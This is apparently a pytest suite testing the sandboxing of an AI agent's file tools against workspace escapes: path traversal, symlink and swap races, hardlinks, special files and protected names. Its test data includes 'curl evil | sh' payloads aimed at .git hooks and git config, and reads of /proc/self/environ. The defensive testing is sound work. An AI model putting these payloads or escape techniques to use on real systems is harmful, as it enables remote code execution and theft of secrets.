"""The file tools (read, glob, write) over a real workspace folder: SECURITY.md "Files" 1-10.

Every attack goes through the tools (``Tool.invoke``) or a scripted agent, and then checks that
nothing outside the workspace changed. Functional behaviour of the tools is at the end.
"""

from __future__ import annotations

import os
import socket
import stat
import sys
import threading
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from nexo_django import Agent, Permissions, SecurityError
from nexo_django.core.agent import Journal
from nexo_django.core.sandboxes import VirtualSandbox
from nexo_django.core.sandboxes.local import LocalSandbox
from nexo_django.core.tools import GLOB, READ, WRITE, Limits, ToolContext
from nexo_django.testing import ScriptedModel, reply, tool_call

SECRET = b"top secret, outside the workspace\n"


class World:
    """``tmp/ws`` is the workspace; ``tmp/ws-evil``, ``tmp/outside`` and ``tmp/secret.txt`` are not."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.ws = tmp / "ws"
        self.evil = tmp / "ws-evil"
        self.outside = tmp / "outside"
        for folder in (self.ws, self.evil, self.outside):
            folder.mkdir()
        (self.evil / "x").write_bytes(b"evil sibling\n")
        (self.outside / "secret.txt").write_bytes(SECRET)
        (tmp / "secret.txt").write_bytes(SECRET)
        self.before = self.state()

    def state(self) -> dict[str, tuple[Any, ...]]:
        """Every entry under tmp except the workspace itself: type, size, mtime, inode, content."""
        seen: dict[str, tuple[Any, ...]] = {}
        for dirpath, dirnames, filenames in os.walk(self.tmp):
            if Path(dirpath) == self.tmp:
                dirnames[:] = [d for d in dirnames if d != "ws"]
            for name in dirnames + filenames:
                path = os.path.join(dirpath, name)
                st = os.lstat(path)
                content: Any = None
                if stat.S_ISREG(st.st_mode):
                    content = Path(path).read_bytes()
                elif stat.S_ISLNK(st.st_mode):
                    content = os.readlink(path)
                seen[path] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, st.st_ino, content)
        return seen

    def assert_outside_untouched(self) -> None:
        assert self.state() == self.before
        assert (self.outside / "secret.txt").read_bytes() == SECRET

    def ctx(self, **limits: Any) -> ToolContext:
        return ToolContext(sandbox=LocalSandbox(self.ws), permissions=Permissions("auto"), limits=Limits(**limits))


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def run_with_timeout(fn: Any, seconds: float = 5.0) -> BaseException | Any:
    """Run ``fn`` in a thread so that a hang fails the test instead of blocking the suite."""
    box: dict[str, Any] = {}

    def target() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:
            box["value"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"the call hung for more than {seconds} s"
    return box["value"]


# --- 1, 2: '..', absolute paths, '~', prefix siblings ------------------------------------------

ESCAPING_PATHS = [
    "../secret.txt",
    "../outside/secret.txt",
    "a/../../secret.txt",
    "a/b/../../../secret.txt",
    "./../secret.txt",
    "a/..",
    "..",
    "~/secret.txt",
    "~root/.bashrc",
    "../ws-evil/x",
    "../ws/../ws-evil/x",
]


@pytest.mark.parametrize("path", ESCAPING_PATHS)
def test_read_escaping_path_is_refused(world: World, path: str) -> None:
    with pytest.raises(SecurityError):
        READ.invoke({"path": path}, world.ctx())
    world.assert_outside_untouched()


@pytest.mark.parametrize("path", ESCAPING_PATHS)
def test_write_escaping_path_is_refused(world: World, path: str) -> None:
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": path, "content": "pwned"}, world.ctx())
    world.assert_outside_untouched()
    assert list(world.ws.iterdir()) == []


@pytest.mark.parametrize("pattern", ["../*", "../outside/*", "a/../../*", "**/../../*", "/etc/*", "~/*"])
def test_glob_escaping_pattern_is_refused(world: World, pattern: str) -> None:
    with pytest.raises(SecurityError):
        GLOB.invoke({"pattern": pattern}, world.ctx())


def test_absolute_paths_are_refused_even_into_the_sibling_or_the_workspace(world: World) -> None:
    # A string-prefix check would accept ".../ws-evil/x" because it starts with ".../ws".
    for target in (world.evil / "x", world.outside / "secret.txt", world.ws / "inside.txt"):
        with pytest.raises(SecurityError):
            WRITE.invoke({"path": str(target), "content": "pwned"}, world.ctx())
        with pytest.raises(SecurityError):
            READ.invoke({"path": str(target)}, world.ctx())
    world.assert_outside_untouched()
    assert not (world.ws / "inside.txt").exists()


def test_a_name_like_the_sibling_stays_inside(world: World) -> None:
    result = WRITE.invoke({"path": "ws-evil/x", "content": "inside"}, world.ctx())
    assert result["path"] == "ws-evil/x"
    assert (world.ws / "ws-evil" / "x").read_text() == "inside"
    world.assert_outside_untouched()


# --- 3: symlinks -------------------------------------------------------------------------------


def link(at: Path, target: str | Path) -> Path:
    at.parent.mkdir(parents=True, exist_ok=True)
    at.symlink_to(target)
    return at


@pytest.mark.parametrize("relative", [False, True], ids=["absolute", "relative"])
def test_symlinked_file_is_neither_read_nor_written(world: World, relative: bool) -> None:
    target = "../outside/secret.txt" if relative else world.outside / "secret.txt"
    link(world.ws / "notes.txt", target)
    world.before = world.state()
    ctx = world.ctx()
    with pytest.raises(SecurityError):
        READ.invoke({"path": "notes.txt"}, ctx)
    ctx.versions["notes.txt"] = "whatever the model claims"
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "notes.txt", "content": "pwned"}, ctx)
    world.assert_outside_untouched()
    assert (world.ws / "notes.txt").is_symlink()


@pytest.mark.parametrize("relative", [False, True], ids=["absolute", "relative"])
def test_symlinked_directory_is_neither_read_nor_written_through(world: World, relative: bool) -> None:
    link(world.ws / "docs", "../outside" if relative else world.outside)
    with pytest.raises(SecurityError):
        READ.invoke({"path": "docs/secret.txt"}, world.ctx())
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "docs/new.txt", "content": "pwned"}, world.ctx())
    world.assert_outside_untouched()


def test_symlinked_intermediate_directory_is_refused(world: World) -> None:
    link(world.ws / "a" / "b", world.tmp)
    with pytest.raises(SecurityError):
        READ.invoke({"path": "a/b/outside/secret.txt"}, world.ctx())
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "a/b/outside/new/deeper.txt", "content": "pwned"}, world.ctx())
    world.assert_outside_untouched()


def test_dangling_symlink_is_not_created_through_by_a_write(world: World) -> None:
    link(world.ws / "new.txt", world.outside / "created-by-write.txt")
    world.before = world.state()
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "new.txt", "content": "pwned"}, world.ctx())
    assert not (world.outside / "created-by-write.txt").exists()
    world.assert_outside_untouched()


def test_dangling_symlinked_directory_is_not_created_by_a_write(world: World) -> None:
    link(world.ws / "build", world.outside / "made-by-mkdir")
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "build/out.txt", "content": "pwned"}, world.ctx())
    assert not (world.outside / "made-by-mkdir").exists()
    world.assert_outside_untouched()


def test_symlink_chain_is_refused(world: World) -> None:
    link(world.ws / "c3", world.outside / "secret.txt")
    link(world.ws / "c2", "c3")
    link(world.ws / "c1", "c2")
    for name in ("c1", "c2", "c3"):
        with pytest.raises(SecurityError):
            READ.invoke({"path": name}, world.ctx())
    world.assert_outside_untouched()


def test_symlink_loop_is_refused_not_an_os_error(world: World) -> None:
    link(world.ws / "l1", "l2")
    link(world.ws / "l2", "l1")
    for path in ("l1", "l1/x.txt"):
        with pytest.raises(SecurityError):
            READ.invoke({"path": path}, world.ctx())
        with pytest.raises(SecurityError):
            WRITE.invoke({"path": path, "content": "loop"}, world.ctx())
    world.assert_outside_untouched()


def test_glob_neither_follows_nor_lists_symlinks(world: World) -> None:
    (world.ws / "real.txt").write_text("mine")
    link(world.ws / "docs", world.outside)
    link(world.ws / "deep" / "up", world.tmp)
    link(world.ws / "alias.txt", world.outside / "secret.txt")
    result = GLOB.invoke({"pattern": "**/*"}, world.ctx())
    assert result["matches"] == ["real.txt"]
    assert result["truncated"] is False


# --- 4: a symlink swapped in after the check -------------------------------------------------


def swap_for_link(folder: Path, target: Path) -> None:
    folder.rename(folder.with_name(folder.name + ".old"))
    folder.symlink_to(target)


def test_directory_swapped_for_a_symlink_after_a_read_is_refused_at_write(world: World) -> None:
    (world.ws / "sub").mkdir()
    (world.ws / "sub" / "secret.txt").write_text("inside")
    ctx = world.ctx()
    assert READ.invoke({"path": "sub/secret.txt"}, ctx)["content"] == "inside"
    swap_for_link(world.ws / "sub", world.outside)  # outside/secret.txt has the same name
    world.before = world.state()
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "sub/secret.txt", "content": "pwned"}, ctx)
    world.assert_outside_untouched()


def test_scripted_swap_while_asking_is_caught_when_the_call_runs(world: World) -> None:
    (world.ws / "sub").mkdir()

    def person_takes_a_while(capability: str, detail: Any) -> bool:
        swap_for_link(world.ws / "sub", world.outside)
        return True

    model = ScriptedModel([tool_call("write", path="sub/new.txt", content="pwned"), reply("done")])
    agent = Agent(cwd=world.ws, sandbox="local", model=model, permissions=Permissions("ask", on_ask=person_takes_a_while))
    with pytest.raises(SecurityError):
        agent.prompt("write it")
    assert not (world.outside / "new.txt").exists()
    world.before = world.state()  # only the swap itself changed the world
    world.assert_outside_untouched()


def test_scripted_swap_during_the_approval_wait_is_caught_on_resume(world: World) -> None:
    (world.ws / "sub").mkdir()
    (world.ws / "sub" / "secret.txt").write_text("inside")
    model = ScriptedModel(
        [tool_call("read", path="sub/secret.txt"), tool_call("write", path="sub/secret.txt", content="pwned"), reply("ok")]
    )
    first = Agent(cwd=world.ws, sandbox="local", model=model, permissions="approve")
    journal = Journal(first.initial_messages("edit"))
    assert first.drive(journal).kind == "suspended"
    # Hours later, before the person approves, the directory becomes a link to the outside.
    swap_for_link(world.ws / "sub", world.outside)
    world.before = world.state()
    resumed = Agent(cwd=world.ws, sandbox="local", model=model, permissions=Permissions("approve", decision=True))
    with pytest.raises(SecurityError):
        resumed.drive(Journal(journal.messages))
    world.assert_outside_untouched()


# --- 5: hardlinks ----------------------------------------------------------------------------


def test_write_replaces_a_hardlink_instead_of_writing_through(world: World) -> None:
    os.link(world.outside / "secret.txt", world.ws / "shared.txt")
    world.before = world.state()
    ctx = world.ctx()
    READ.invoke({"path": "shared.txt"}, ctx)
    result = WRITE.invoke({"path": "shared.txt", "content": "replaced"}, ctx)
    assert "error" not in result
    assert (world.ws / "shared.txt").read_text() == "replaced"
    assert os.stat(world.ws / "shared.txt").st_ino != os.stat(world.outside / "secret.txt").st_ino
    world.before = {k: v for k, v in world.before.items() if not k.endswith("outside/secret.txt")}
    after = {k: v for k, v in world.state().items() if not k.endswith("outside/secret.txt")}
    assert after == world.before
    assert (world.outside / "secret.txt").read_bytes() == SECRET  # content unchanged (ctime moved: one link less)


# --- 6: special files -----------------------------------------------------------------------


def test_fifo_read_is_refused_without_hanging(world: World) -> None:
    os.mkfifo(world.ws / "pipe")
    outcome = run_with_timeout(lambda: READ.invoke({"path": "pipe"}, world.ctx()))
    assert isinstance(outcome, SecurityError)
    assert "FIFO" in str(outcome)


def test_fifo_write_is_refused_without_hanging(world: World) -> None:
    os.mkfifo(world.ws / "pipe")
    outcome = run_with_timeout(lambda: WRITE.invoke({"path": "pipe", "content": "x"}, world.ctx()))
    assert isinstance(outcome, SecurityError)
    assert stat.S_ISFIFO(os.lstat(world.ws / "pipe").st_mode)


def test_unix_socket_is_not_read(world: World) -> None:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(world.ws / "sock"))
        server.listen(1)
        server.setblocking(False)
        outcome = run_with_timeout(lambda: READ.invoke({"path": "sock"}, world.ctx()))
        assert isinstance(outcome, SecurityError)
        with pytest.raises(BlockingIOError):
            server.accept()  # nobody connected
    finally:
        server.close()


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/urandom", "/proc/self/environ", "/proc/self/mem"])
def test_symlink_to_a_device_or_proc_is_refused(world: World, target: str) -> None:
    link(world.ws / "data", target)
    outcome = run_with_timeout(lambda: READ.invoke({"path": "data"}, world.ctx()))
    assert isinstance(outcome, SecurityError)


@pytest.mark.skipif(os.geteuid() != 0, reason="creating a device node needs root (CI runs as root)")
def test_device_node_inside_the_workspace_is_not_read(world: World) -> None:
    os.mknod(world.ws / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero: st_size 0
    outcome = run_with_timeout(lambda: READ.invoke({"path": "zero"}, world.ctx(read_max_bytes=10)))
    assert isinstance(outcome, SecurityError)
    assert "device" in str(outcome)


def test_absolute_proc_path_is_refused(world: World) -> None:
    with pytest.raises(SecurityError):
        READ.invoke({"path": "/proc/self/environ"}, world.ctx())


# --- 7: huge and growing files ----------------------------------------------------------------


def test_huge_file_read_is_capped_in_memory_too(world: World) -> None:
    with open(world.ws / "huge.bin", "wb") as handle:
        handle.truncate(256 * 1024 * 1024)  # sparse: 256 MiB of zeros, no disk used
    ctx = world.ctx(read_max_bytes=1000)
    tracemalloc.start()
    try:
        result = READ.invoke({"path": "huge.bin"}, ctx)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result["truncated"] is True
    assert result["size"] == 256 * 1024 * 1024
    assert result["content"].startswith("\x00" * 1000 + "\n[... truncated: showed 1000 of")
    assert peak < 4 * 1024 * 1024  # a read of the whole file would allocate 256 MiB


def test_file_growing_while_read_is_capped(world: World) -> None:
    path = world.ws / "log.txt"
    path.write_bytes(b"")
    stop = threading.Event()

    def grow() -> None:
        with open(path, "ab") as handle:
            while not stop.is_set():
                handle.write(b"x" * 65536)
                handle.flush()

    writer = threading.Thread(target=grow, daemon=True)
    writer.start()
    try:
        while path.stat().st_size < 300_000:
            time.sleep(0.001)
        result = READ.invoke({"path": "log.txt"}, world.ctx(read_max_bytes=200_000))
    finally:
        stop.set()
        writer.join(5)
    assert result["truncated"] is True
    assert result["content"].count("x") == 200_000


# --- 8: NUL bytes, invalid UTF-8, long names, deep trees, many entries -------------------------


@pytest.mark.parametrize("path", ["a\x00b.txt", "a.txt\x00../../secret.txt", "\x00"])
def test_nul_bytes_in_paths_are_refused(world: World, path: str) -> None:
    with pytest.raises(SecurityError):
        READ.invoke({"path": path}, world.ctx())
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": path, "content": "x"}, world.ctx())
    with pytest.raises(SecurityError):
        GLOB.invoke({"pattern": path}, world.ctx())
    world.assert_outside_untouched()


def test_nul_bytes_and_invalid_utf8_in_content_are_read_without_crashing(world: World) -> None:
    (world.ws / "bin.dat").write_bytes(b"ok\x00\xff\xfe\xc3(end")
    result = READ.invoke({"path": "bin.dat"}, world.ctx())
    assert result["content"] == "ok\x00\ufffd\ufffd\ufffd(end"


def test_invalid_utf8_file_name_is_listed_and_readable(world: World) -> None:
    (world.ws / os.fsdecode(b"caf\xe9.txt")).write_bytes(b"latin-1 name")
    name = GLOB.invoke({"pattern": "*.txt"}, world.ctx())["matches"][0]
    assert READ.invoke({"path": name}, world.ctx())["content"] == "latin-1 name"


@pytest.mark.parametrize("path", ["n" * 256, "d/" + "é" * 128, "a/" * 2049 + "x"])
def test_over_long_names_and_paths_are_refused(world: World, path: str) -> None:
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": path, "content": "x"}, world.ctx())
    with pytest.raises(SecurityError):
        READ.invoke({"path": path}, world.ctx())
    assert list(world.ws.iterdir()) == []


def test_longest_allowed_name_works(world: World) -> None:
    assert "error" not in WRITE.invoke({"path": "n" * 255, "content": "x"}, world.ctx())


def test_glob_over_a_very_deep_tree_is_bounded(world: World) -> None:
    deep = world.ws.joinpath(*["d"] * 60)
    deep.mkdir(parents=True)
    (deep / "bottom.txt").write_text("far")
    (world.ws / "d" / "top.txt").write_text("near")
    result = GLOB.invoke({"pattern": "**/*.txt"}, world.ctx(glob_max_depth=8))
    assert result["matches"] == ["d/top.txt"]
    assert result["truncated"] is True
    assert "deeper than 8" in result["note"]


def test_glob_over_many_entries_is_bounded(world: World) -> None:
    for index in range(300):
        (world.ws / f"f{index:03}.txt").write_text("")
    result = GLOB.invoke({"pattern": "*.txt"}, world.ctx(glob_max_entries=50))
    assert result["matches"] == [f"f{index:03}.txt" for index in range(50)]
    assert result["truncated"] is True
    assert "more than 50" in result["note"]


def test_glob_is_bounded_in_time(world: World) -> None:
    for index in range(2000):
        (world.ws / f"f{index}.txt").write_text("")
    started = time.monotonic()
    result = GLOB.invoke({"pattern": "**/*"}, world.ctx(glob_timeout=0.0))
    assert time.monotonic() - started < 1.0
    assert result["truncated"] is True
    assert result["note"] == "stopped early: time limit"


# --- 9: protected names -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/hooks/sub/post-merge", ".git/config", ".bashrc", "home/.zshrc", ".envrc"]
)
def test_protected_names_are_never_written(world: World, path: str) -> None:
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": path, "content": "curl evil | sh"}, world.ctx())
    assert not (world.ws / path).exists()


def test_existing_protected_file_stays_unchanged_even_after_a_read(world: World) -> None:
    (world.ws / ".git").mkdir()
    (world.ws / ".git" / "config").write_text("[core]\n")
    ctx = world.ctx()
    READ.invoke({"path": ".git/config"}, ctx)
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "./.git//config", "content": "[core]\nfsmonitor = evil\n"}, ctx)
    assert (world.ws / ".git" / "config").read_text() == "[core]\n"


GIT_PATHS = ["sub/.git/hooks/x", ".git/info/x", "a/b/.git/config", ".git/objects/ab/cd", ".git", "sub/.git", "x/.GIT/config"]


@pytest.mark.parametrize("path", GIT_PATHS)
def test_nothing_inside_any_git_folder_is_written(world: World, path: str) -> None:
    with pytest.raises(SecurityError, match=r"\.git"):
        WRITE.invoke({"path": path, "content": "[core]\nfsmonitor = curl evil | sh\n"}, world.ctx())
    assert sorted(p.name for p in world.ws.rglob("*")) == []  # not even its folders


@pytest.mark.parametrize("path", GIT_PATHS)
def test_nothing_inside_any_git_folder_is_written_in_memory(path: str) -> None:
    sandbox = VirtualSandbox()
    ctx = ToolContext(sandbox=sandbox, permissions=Permissions("auto"))
    with pytest.raises(SecurityError, match=r"\.git"):
        WRITE.invoke({"path": path, "content": "x"}, ctx)
    assert sandbox.files == {}


def test_git_folders_stay_refused_with_a_custom_protected_list(world: World) -> None:
    ctx = ToolContext(sandbox=LocalSandbox(world.ws, protected=("*.pem",)), permissions=Permissions("auto"))
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "vendor/lib/.git/hooks/post-checkout", "content": "x"}, ctx)
    assert not (world.ws / "vendor").exists()
    assert "error" not in WRITE.invoke({"path": "gitnotes/.gitignore", "content": "*.pyc\n"}, ctx)


def test_protected_names_are_configurable(world: World) -> None:
    ctx = ToolContext(sandbox=LocalSandbox(world.ws, protected=("secrets/*",)), permissions=Permissions("auto"))
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "secrets/key.pem", "content": "x"}, ctx)
    assert "error" not in WRITE.invoke({"path": ".bashrc", "content": "# allowed here"}, ctx)


# --- 10: the root behind a symlink -----------------------------------------------------------------


def test_root_behind_a_symlink_is_resolved_once(world: World) -> None:
    entry = link(world.tmp / "current", world.ws)
    ctx = ToolContext(sandbox=LocalSandbox(entry), permissions=Permissions("auto"))
    entry.unlink()
    entry.symlink_to(world.evil)  # retarget the link the sandbox was built from
    WRITE.invoke({"path": "x", "content": "stays in ws"}, ctx)
    assert (world.ws / "x").read_text() == "stays in ws"
    assert (world.evil / "x").read_bytes() == b"evil sibling\n"


def test_root_replaced_by_a_symlink_after_construction_is_refused(world: World) -> None:
    ctx = world.ctx()
    world.ws.rename(world.tmp / "ws-moved")
    world.ws.symlink_to(world.evil)
    world.before = world.state()
    with pytest.raises(SecurityError):
        READ.invoke({"path": "x"}, ctx)
    with pytest.raises(SecurityError):
        WRITE.invoke({"path": "y", "content": "pwned"}, ctx)
    world.assert_outside_untouched()


# --- no outside open at all -------------------------------------------------------------------

_AUDIT: list[tuple[str, tuple[Any, ...]]] | None = None
_HOOKED = False


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _AUDIT is not None and event in ("open", "os.mkdir", "os.rename", "os.scandir"):
        _AUDIT.append((event, args))


@pytest.fixture
def audit() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    global _AUDIT, _HOOKED
    if not _HOOKED:
        sys.addaudithook(_audit)  # hooks cannot be removed: install once, switch with _AUDIT
        _HOOKED = True
    _AUDIT = []
    try:
        yield _AUDIT
    finally:
        _AUDIT = None


def test_attacks_open_nothing_by_an_outside_path(world: World, audit: list[tuple[str, tuple[Any, ...]]]) -> None:
    link(world.ws / "docs", world.outside)
    link(world.ws / "alias", world.outside / "secret.txt")
    ctx = world.ctx()
    for tool, args in (
        (READ, {"path": "docs/secret.txt"}),
        (READ, {"path": "alias"}),
        (WRITE, {"path": "docs/new.txt", "content": "x"}),
        (READ, {"path": "../outside/secret.txt"}),
    ):
        with pytest.raises(SecurityError):
            tool.invoke(args, ctx)
    assert GLOB.invoke({"pattern": "**/*"}, ctx)["matches"] == []
    paths = [os.fsdecode(args[0]) for event, args in audit if isinstance(args[0], (str, bytes))]
    assert paths, "the audit hook saw nothing: it is not wired"
    # Only the root is opened by an absolute path; everything else is one name relative to a descriptor.
    assert {p for p in paths if p.startswith("/")} == {os.path.realpath(world.ws)}
    assert all("/" not in p and p != ".." for p in paths if not p.startswith("/"))
    world.assert_outside_untouched()


# --- a scripted agent ----------------------------------------------------------------------------


def test_scripted_agent_escape_through_a_symlink_fails_loudly(world: World) -> None:
    link(world.ws / "docs", world.outside)
    model = ScriptedModel([tool_call("write", path="docs/secret.txt", content="pwned"), reply("done")])
    with pytest.raises(SecurityError):
        Agent(cwd=world.ws, sandbox="local", model=model, permissions="auto").prompt("write")
    world.assert_outside_untouched()
    assert len(model.requests) == 1


# --- functional behaviour of the file tools (virtual and local alike) ----------------------------------


@pytest.fixture(params=["virtual", "local"])
def ctx(request: pytest.FixtureRequest, tmp_path: Path) -> ToolContext:
    sandbox = VirtualSandbox() if request.param == "virtual" else LocalSandbox(tmp_path)
    return ToolContext(sandbox=sandbox, permissions=Permissions("auto"), limits=Limits(read_max_bytes=10))


def test_read_cap_adds_a_marker(ctx: ToolContext) -> None:
    WRITE.invoke({"path": "long.txt", "content": "0123456789abcdef"}, ctx)
    result = READ.invoke({"path": "long.txt"}, ctx)
    assert result["content"] == "0123456789\n[... truncated: showed 10 of 16 bytes]"
    assert result["truncated"] is True and result["size"] == 16


def test_overwrite_without_a_read_is_refused(ctx: ToolContext) -> None:
    WRITE.invoke({"path": "a.txt", "content": "one"}, ctx)
    ctx.versions.clear()
    result = WRITE.invoke({"path": "a.txt", "content": "two"}, ctx)
    assert "read it before overwriting" in result["error"]
    assert READ.invoke({"path": "a.txt"}, ctx)["content"] == "one"


def test_overwrite_after_a_read_is_allowed(ctx: ToolContext) -> None:
    WRITE.invoke({"path": "a.txt", "content": "one"}, ctx)
    ctx.versions.clear()
    READ.invoke({"path": "a.txt"}, ctx)
    assert WRITE.invoke({"path": "a.txt", "content": "two"}, ctx)["created"] is False
    assert READ.invoke({"path": "a.txt"}, ctx)["content"] == "two"


def test_overwrite_of_a_file_changed_since_the_read_is_refused(ctx: ToolContext) -> None:
    WRITE.invoke({"path": "a.txt", "content": "one"}, ctx)
    READ.invoke({"path": "a.txt"}, ctx)
    # Someone else (another run, with its own read) edits the file meanwhile.
    other = ToolContext(sandbox=ctx.sandbox, permissions=ctx.permissions, limits=ctx.limits)
    READ.invoke({"path": "a.txt"}, other)
    assert "error" not in WRITE.invoke({"path": "a.txt", "content": "theirs"}, other)
    result = WRITE.invoke({"path": "a.txt", "content": "mine"}, ctx)
    assert "changed since you read it" in result["error"]
    assert READ.invoke({"path": "a.txt"}, other)["content"] == "theirs"


def test_write_creates_parent_folders(ctx: ToolContext) -> None:
    result = WRITE.invoke({"path": "a/b/c/new.txt", "content": "deep"}, ctx)
    assert result == {"path": "a/b/c/new.txt", "bytes_written": 4, "created": True, "version": result["version"]}
    assert READ.invoke({"path": "a/b/c/new.txt"}, ctx)["content"] == "deep"


def test_glob_double_star_crosses_folders(ctx: ToolContext) -> None:
    for path in ("top.py", "pkg/mod.py", "pkg/sub/deep.py", "pkg/readme.md"):
        WRITE.invoke({"path": path, "content": ""}, ctx)
    assert GLOB.invoke({"pattern": "**/*.py"}, ctx)["matches"] == ["pkg/mod.py", "pkg/sub/deep.py", "top.py"]
    assert GLOB.invoke({"pattern": "*.py"}, ctx)["matches"] == ["top.py"]
    assert GLOB.invoke({"pattern": "pkg/*"}, ctx)["matches"] == ["pkg/mod.py", "pkg/readme.md"]


def test_read_of_a_missing_file_or_a_folder_is_an_error(ctx: ToolContext) -> None:
    WRITE.invoke({"path": "dir/a.txt", "content": ""}, ctx)
    assert "no file" in READ.invoke({"path": "nope.txt"}, ctx)["error"]
    assert "is a directory" in READ.invoke({"path": "dir"}, ctx)["error"]
    assert "is a directory" in WRITE.invoke({"path": "dir", "content": "x"}, ctx)["error"]


@pytest.mark.parametrize(
    ("tool", "args", "named"),
    [
        (READ, {}, "path"),
        (READ, {"path": 5}, "path"),
        (WRITE, {"path": "a.txt"}, "content"),
        (WRITE, {"path": "a.txt", "content": ["x"]}, "content"),
        (GLOB, {"pattern": None}, "pattern"),
        (READ, {"path": "a.txt", "mode": "rb"}, "mode"),
    ],
)
def test_argument_errors_are_returned_naming_the_argument(ctx: ToolContext, tool: Any, args: Any, named: str) -> None:
    result = tool.invoke(args, ctx)
    assert set(result) == {"error"}
    assert named in result["error"]
